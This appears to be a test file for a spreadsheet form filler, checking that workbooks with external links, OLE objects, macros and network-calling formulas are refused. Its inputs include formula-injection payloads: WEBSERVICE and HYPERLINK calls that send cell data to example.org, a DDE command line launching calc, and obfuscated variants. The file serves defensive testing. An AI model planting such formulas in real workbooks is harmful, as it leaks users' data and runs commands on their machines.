"""A form that fetches or sends something is refused, with the place and what to do."""

import pytest
import xlsxwriter

from sheets.fill import fill_cells, open_blank
from sheets.fill.errors import ActiveContent, MacroWorkbook, SignedWorkbook
from tests.sheets.books import OFFICE, PACKAGE, cell, raw_book, sheet_xml

ROWS = f'<row r="1">{cell("A1", "党员数")}</row>'
TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml."


def form(tmp_path, *, formula="", after="", more=None):
    rows = ROWS
    if formula:
        text = formula.replace("&", "&amp;").replace("<", "&lt;")
        rows += f'<row r="4"><c r="B4"><f>{text}</f><v>0</v></c></row>'
    sheet = sheet_xml(rows, after=after)
    return raw_book(tmp_path / "form.xlsx", sheet, more=more)


def refusal_of(path):
    with pytest.raises(ActiveContent) as refused:
        open_blank(path, filename="form.xlsx")
    with pytest.raises(ActiveContent):
        fill_cells(path, {})
    return refused.value


def types(*entries):
    return f'<Types xmlns="{PACKAGE}/content-types">{"".join(entries)}</Types>'


def references(kind, target, mode=""):
    return (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r9"'
        f' Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    )


PARTS = [
    "xl/externalLinks/externalLink1.xml",
    "xl/connections.xml",
    "xl/queryTables/queryTable1.xml",
    "xl/embeddings/oleObject1.bin",
    "xl/embeddings/Microsoft_Word_Document1.docx",
    "xl/webextensions/taskpanes.xml",
    "xl/richData/rdRichValueWebImage.xml",
    "xl/volatileDependencies.xml",
    "xl/model/item.data",
    "XL\\EXTERNALLINKS\\a.xml",
]


@pytest.mark.parametrize("name", PARTS)
def test_a_part_that_fetches_is_refused_by_its_name(tmp_path, name):
    refused = refusal_of(form(tmp_path, more={name: b"<a/>"}))

    assert refused.params["where"] == name.replace("\\", "/").lower()


@pytest.mark.parametrize(
    "kind", ["externalLink", "connections", "queryTable", "volatileDependencies"]
)
@pytest.mark.parametrize(
    "written", [str, lambda kind: f"&#x{ord(kind[0]):x};{kind[1:]}"]
)
def test_such_a_part_under_another_name_is_refused_by_its_type(tmp_path, kind, written):
    entry = f'<Override PartName="/xl/a.xml" ContentType="{TYPE}{written(kind)}+xml"/>'

    refused = refusal_of(form(tmp_path, more={"[Content_Types].xml": types(entry)}))

    assert refused.params["where"] == "xl/a.xml"


@pytest.mark.parametrize(
    ("kind", "mode"),
    [
        ("oleObject", ""),
        ("package", ""),
        ("connections", ""),
        ("image", ' TargetMode="External"'),
        ("externalLinkPath", ' TargetMode="External"'),
        ("attachedTemplate", ' TargetMode="External"'),
        ("anything", ' TargetMode="external"'),
    ],
)
def test_a_reference_that_is_followed_by_itself_is_refused(tmp_path, kind, mode):
    target = "https://example.org/x" if mode else "../a.bin"
    name = "xl/worksheets/_rels/sheet1.xml.rels"

    refused = refusal_of(form(tmp_path, more={name: references(kind, target, mode)}))

    assert refused.params["where"] == target


FORMULAS = [
    'WEBSERVICE("https://example.org/?n="&B3)',
    '_xlfn.WEBSERVICE("https://example.org/?n="&B3)',
    "SUM(1, webservice (A1))",
    'FILTERXML(A1,"//a")',
    'RTD("a","b","c")',
    '_xlfn.IMAGE("https://example.org/"&B3)',
    "_xlfn.ENCODEURL(B3)",
    "_xlfn.MAP(A1:A3,_xleta.WEBSERVICE)",
    "_xlfn._xlws.PY(0,1)",
    'CUBEVALUE("a","b")',
    'HYPERLINK("https://example.org/?n="&B3,"点击核对")',
    "HYPERLINK(B3)",
    'HYPERLINK (CONCATENATE("https://example.org/",B3))',
    "_xlfn.MAP(A1:A3,_xleta.HYPERLINK)",
    "[1]!'!A1'",
    "[1]表!A1+1",
    "SUM('[1]表 一'!A1)",
    "'https://example.org/[a.xlsx]表'!A1",
    r"'\\example\share\[a.xlsx]表'!A1",
    "cmd|'/c calc'!A1",
    '"a"&WEBSERVICE(A1)&"',
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_that_fetches_or_sends_is_refused_with_its_cell(tmp_path, formula):
    assert refusal_of(form(tmp_path, formula=formula)).params["where"] == "名册!B4"


CALLS = [
    *("_xll.foo(A1)", "_XLL.SUM(A1)", "_xludf.foo(A1)", "UNKNOWNADDIN(A1)"),
    *("com.sun.star.sheet.addin.Analysis.getX(A1)", "COM.SUN.STAR.SHEET.ADDIN.X(A1)"),
    *("ORG.LIBREOFFICE.WEBSERVICE(A1)", "COM.MICROSOFT.WEBSERVICE(A1)"),
    *('FOPEN("c:")', "FWRITE(1,A1)", "FREAD(1,2)", "FILES()", "EXECUTE(1,A1)"),
    *('INITIATE("a","b")', 'POKE(1,"x",A1)', "REQUEST(1,A1)", 'SEND.MAIL("a@b")'),
    *('CALL("a","b")', 'REGISTER("a","b")', 'REGISTER.ID("a","b")', 'EXEC("a")'),
    *('EVALUATE("WEBSERVICE(1)")', "GET.CELL(1,A1)", "GET.WORKSPACE(1)", "RUN(A1)"),
    *('IMPORTDATA("http:"&A1)', 'IMPORTXML("a","b")', 'IMPORTHTML("a","b",1)'),
    *('IMPORTRANGE("a","b")', 'IMPORTFEED("a")', "IMPORTTEXT(A1)", "IMPORTCSV(A1)"),
    *("GOOGLEFINANCE(A1)", 'GOOGLETRANSLATE(A1,"a","b")', "_xlfn.TRANSLATE(A1)"),
    *(
        "WPS.WEBSERVICE(A1)",
        "WPSWEBSERVICE(A1)",
        "_xlfn.WPS.IMAGE(A1)",
        "ENCODEURL(A1)",
    ),
    *("MYIMAGE(1)", "STOCKHISTORY(A1)", 'SQL.REQUEST("a")', "_xlfn._xlws.COPILOT(A1)"),
    *("@WebService (A1)", "_xlfn. WEBSERVICE(A1)", "WEBSERVICE\u3000(A1)"),
    *("WEBSERVICE\u200b(A1)", "ＷＥＢＳＥＲＶＩＣＥ(A1)", "WEBSERVICE\n(A1)"),
    *("IF(A1='x',WEBSERVICE(A1),'')", "'a''b'!WEBSERVICE(A1)", "-+WEBSERVICE(A1)"),
    *("_xlfn.SINGLE(WEBSERVICE(A1))", "_xlfn.ANCHORARRAY(foo(A1))"),
    *("LET(f,WEBSERVICE,f(A1))", "_xlfn.LAMBDA(_xlpm.x,_xlpm.x)(A1)", "INDEX(A1)(A1)"),
    *("_xlfn.LET(_xlpm.f,_xleta.SUM,_xlpm.f(A1))", "_xlfn.MAP(A1,_xleta.SUM)"),
    *("REDUCE(0,A1,WEBSERVICE)", "_xlfn.HYPERLINK(A1)", "A._xlfn.SUM(A1)"),
    *('表1[a"]+WEBSERVICE(A1)+表1["b]', "表1[a']+WEBSERVICE(A1)+表1['b]"),
    *("表1[WEB]SERVICE(A1)", "SU[a]M(A1)", "[WEBSERVICE(A1)"),
    *("__xludf.DUMMYFUNCTION(A1)", 'DDE ("a","b","c")', "INFO2(A1)"),
]


@pytest.mark.parametrize("formula", CALLS)
def test_a_function_not_known_to_compute_only_is_refused_by_name(tmp_path, formula):
    assert refusal_of(form(tmp_path, formula=formula)).params["where"] == "名册!B4"


def test_the_refusal_names_the_function(tmp_path):
    refused = refusal_of(form(tmp_path, formula="SUM(A1)+_xll.Foo(A1)"))

    assert "_xll.Foo" in str(refused)


@pytest.mark.parametrize(
    "after",
    [
        '<cfRule><cfvo type="formula" val="FOO(A1)"/></cfRule>',
        "<dataValidation><formula1>'<f>FOO(A1)</f></formula1></dataValidation>",
        "<dataValidation><formula2>FOO(A1)</formula2></dataValidation>",
        '<sheetData><row><c><f t="array" ref="A1">FOO(A1)</f></c></row></sheetData>',
        '<a:cfRule xmlns:a="a"><a:f>FOO(A1)</a:f></a:cfRule>',
    ],
)
def test_such_a_function_is_refused_wherever_a_sheet_has_formulas(tmp_path, after):
    assert refusal_of(form(tmp_path, after=after)).params["where"] == "名册"


@pytest.mark.parametrize(
    "inside",
    ['<a:sp textlink="FOO(A1)"/>', "<a:f>FOO(A1)</a:f>"],
)
def test_such_a_function_is_refused_in_a_drawing(tmp_path, inside):
    assert refusal_of(form(tmp_path, more=drawing(inside))).params["where"] == DRAWING


VALIDATION = (
    '<dataValidations count="1"><dataValidation type="custom" sqref="A1"><formula1>'
    "WEBSERVICE(A1)=1</formula1></dataValidation></dataValidations>"
)
CONDITION = (
    '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
    "<formula>WEBSERVICE(A1)=1</formula></cfRule></conditionalFormatting>"
)


@pytest.mark.parametrize("after", [VALIDATION, CONDITION])
def test_a_rule_that_fetches_is_refused_with_its_sheet(tmp_path, after):
    assert refusal_of(form(tmp_path, after=after)).params["where"] == "名册"


def test_a_name_that_fetches_is_refused(tmp_path):
    name = "<definedName name='a'>WEBSERVICE(B3)</definedName>"
    properties = f"<definedNames>{name}</definedNames>"
    path = raw_book(tmp_path / "form.xlsx", sheet_xml(ROWS), properties=properties)

    assert refusal_of(path).params["where"] == "xl/workbook.xml"


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(B3:B9)",
        'IF(A1="WEBSERVICE(1)","是|否","[1]表!A1")',
        "表1[[#This Row],[1]]*2",
        "SUM(表1[人数])",
        "'表 一'!A1",
        'HYPERLINK("https://example.org/","说明")',
        'HYPERLINK("#"&A1&"!A1",A1)',
        'HYPERLINK("#目录!A1")',
        "IMAGE",
        "SUM (A1, _xlfn.SUMIFS(B:B,C:C,1))",
        "_xlfn._xlws.SORT(_xlfn.UNIQUE(A1:A9))",
        "表1[[#This Row],[人数(人)]]+SUM(表1[男(人)])",
        "'表(一)'!A1*(B1+C1)",
        "A1:B9 (B1:C3)",
        "(A1:B2) (B1:C3)",
        "_xlfn.LET(_xlpm.x,A1,_xlpm.x*2)",
        "@INDEX(A1:A3,1)+{1,2;3,4}",
        'IF(A1="[人(数)",1,"[1]")',
        "TRUE()",
        "sum(a1)",
        "INDIRECT(A1)",
    ],
)
def test_what_only_computes_or_waits_for_a_click_is_taken(tmp_path, formula):
    assert open_blank(form(tmp_path, formula=formula), filename="form.xlsx").grids


OUTSIDE = ' TargetMode="External"'
SHEET = "xl/worksheets/sheet1.xml"
DRAWING = "xl/drawings/drawing1.xml"
NAMESPACES = f'xmlns:r="{OFFICE}" xmlns:a="a" xmlns:o="o"'
CLICKED = f'<hyperlinks {NAMESPACES}><hyperlink ref="A1" r:id="r9"/></hyperlinks>'
IN_DRAWING = '<a:cNvPr><a:hlinkClick r:id="r9"/></a:cNvPr>'


def drawing(inside, name=DRAWING):
    return {name: f"<a:wsDr {NAMESPACES}>{inside}</a:wsDr>".encode()}


def link_of(part, target="https://example.org/model/", mode=OUTSIDE):
    folder, _, name = part.rpartition("/")
    return {f"{folder}/_rels/{name}.rels": references("hyperlink", target, mode)}


@pytest.mark.parametrize(
    "more",
    [link_of(SHEET), link_of(SHEET, mode=""), link_of(SHEET, "mailto:a@example.org")],
)
def test_a_link_of_a_cell_that_leads_somewhere_when_clicked_is_taken(tmp_path, more):
    path = form(tmp_path, more=more, after=CLICKED)

    assert open_blank(path, filename="form.xlsx").grids


def test_a_link_of_a_drawing_that_leads_somewhere_when_clicked_is_taken(tmp_path):
    path = form(tmp_path, more=link_of(DRAWING) | drawing(IN_DRAWING))

    assert open_blank(path, filename="form.xlsx").grids


def test_links_as_a_library_writes_them_are_taken(tmp_path):
    path = tmp_path / "form.xlsx"
    with xlsxwriter.Workbook(path) as workbook:
        sheet = workbook.add_worksheet("名册")
        sheet.write_url("A1", "https://example.org/", string="说明")
        sheet.insert_textbox("C3", "说明", {"url": "https://example.org/a"})
        sheet.insert_chart("E3", a_chart(workbook))

    assert open_blank(path, filename="form.xlsx").grids


def a_chart(workbook):
    chart = workbook.add_chart({"type": "column"})
    chart.add_series({"values": "=名册!$A$1:$A$2"})
    return chart


USERS = [
    "",
    '<a:blip r:link="r9"/>',
    '<a:blip r:embed="r9"/>',
    '<a:blip r:embed=" R9 "/>',
    '<a:imagedata r:pict="r9"/>',
    '<a:imagedata o:relid="r9"/>',
    '<a:externalReference r:id="r9"/>',
    '<a:snd r:id="r9"/>',
    '<a:blip><a:hlinkClick r:id="r9"/></a:blip>',
    '<a:cNvPr><a:hlinkClick r:link="r9"/></a:cNvPr>',
    f'{IN_DRAWING}<a:blip r:link="r9"/>',
]


@pytest.mark.parametrize("inside", USERS)
def test_what_fetches_through_a_reference_called_a_link_is_refused(tmp_path, inside):
    more = link_of(DRAWING, "https://example.org/a.png") | drawing(inside)

    refused = refusal_of(form(tmp_path, more=more))

    assert refused.params["where"] == "https://example.org/a.png"


@pytest.mark.parametrize(
    "more",
    [
        link_of("xl/drawings/vmlDrawing1.vml")
        | drawing('<a:imagedata o:relid="r9"/>', "xl/drawings/vmlDrawing1.vml"),
        link_of("xl/workbook.xml"),
        link_of("xl/tables/table1.xml"),
        link_of("customXml/item1.xml"),
        {"_rels/.rels": references("hyperlink", "https://example.org/", OUTSIDE)},
        link_of(DRAWING, mode=' TargetMode=" external "') | drawing(USERS[1]),
        link_of(DRAWING, mode="") | drawing(USERS[1]),
        link_of(DRAWING, r"\\example\share\a.png", "") | drawing(USERS[1]),
    ],
)
def test_a_reference_outside_that_nobody_clicks_is_refused(tmp_path, more):
    path = form(tmp_path, more=more, after=CLICKED)

    assert "example" in refusal_of(path).params["where"]


def test_a_link_of_a_type_that_only_ends_alike_is_refused(tmp_path):
    written = link_of(SHEET)
    name, text = written.popitem()
    more = {name: text.replace("/hyperlink", "/image/hyperlink")}

    refused = refusal_of(form(tmp_path, more=more, after=CLICKED))

    assert refused.params["where"] == "https://example.org/model/"


@pytest.mark.parametrize(
    "element",
    [
        '<webPublishItems><webPublishItem destinationFile="a"/></webPublishItems>',
        '<oleObjects><oleObject progId="a"/></oleObjects>',
        '<a:ddeLink xmlns:a="a" ddeService="a" ddeTopic="b"/>',
        '<oleLink progId="a"/>',
    ],
)
def test_what_fetches_or_sends_without_a_reference_is_refused(tmp_path, element):
    assert refusal_of(form(tmp_path, after=element)).params["where"] == "名册"


@pytest.mark.parametrize(
    ("name", "refusal"),
    [
        ("xl/vbaProject.bin", MacroWorkbook),
        ("xl/activeX/activeX1.xml", MacroWorkbook),
        ("xl/macrosheets/sheet1.xml", MacroWorkbook),
        ("_xmlsignatures/sig1.xml", SignedWorkbook),
    ],
)
def test_macros_controls_and_signatures_are_refused_as_before(tmp_path, name, refusal):
    with pytest.raises(refusal):
        open_blank(form(tmp_path, more={name: b"<a/>"}), filename="form.xlsx")
